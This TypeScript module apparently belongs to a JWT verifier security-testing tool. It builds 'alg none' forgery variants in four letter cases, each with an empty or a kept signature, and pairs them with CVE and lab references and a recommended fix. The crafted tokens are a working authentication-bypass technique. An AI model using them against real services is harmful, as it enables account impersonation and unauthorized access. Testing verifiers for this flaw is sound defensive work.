import { compact, withoutKeyHints } from './token-parts';
import type { Attack, AttackInput } from './types';

const REFERENCE = 'CVE-2015-2951; jwt_tool -X a; PortSwigger lab "flawed signature verification"';
const FIX = 'accept only the algorithms your issuer signs with (RS256 for Entra ID); refuse "none" in any letter case';

/** The spellings verifiers have been caught comparing case-sensitively (code suffix → alg). */
export const ALG_NONE_SPELLINGS = [
  { suffix: '', alg: 'none', words: 'lower case' },
  { suffix: '-capitalized', alg: 'None', words: 'capitalized' },
  { suffix: '-uppercase', alg: 'NONE', words: 'upper case' },
  { suffix: '-mixed-case', alg: 'nOnE', words: 'mixed case' },
] as const;

function unsigned(alg: string, keepSignature: boolean) {
  return ({ token }: AttackInput): string => compact({ ...withoutKeyHints(token.header), alg }, token.claims, keepSignature ? (token.parts?.[2] ?? '') : '');
}

/** `alg` set to none in four spellings, each with an empty signature and with the genuine one kept. */
export const ALG_NONE_ATTACKS = [
  ...ALG_NONE_SPELLINGS.map((v) => ({
    code: `alg-none${v.suffix}` as const,
    family: 'alg-none' as const,
    title: `alg "${v.alg}" (${v.words}), empty signature`,
    reference: REFERENCE,
    acceptance: `accepted an unsigned token (alg "${v.alg}"): anyone can mint tokens`,
    fix: FIX,
    craft: unsigned(v.alg, false),
  })),
  ...ALG_NONE_SPELLINGS.map((v) => ({
    code: `alg-none${v.suffix}-kept-signature` as const,
    family: 'alg-none' as const,
    title: `alg "${v.alg}" (${v.words}), genuine signature kept`,
    reference: REFERENCE,
    acceptance: `accepted a token whose alg says "${v.alg}" though it carries a signature: the signature is skipped when alg says none`,
    fix: FIX,
    craft: unsigned(v.alg, true),
  })),
] satisfies readonly Attack[];
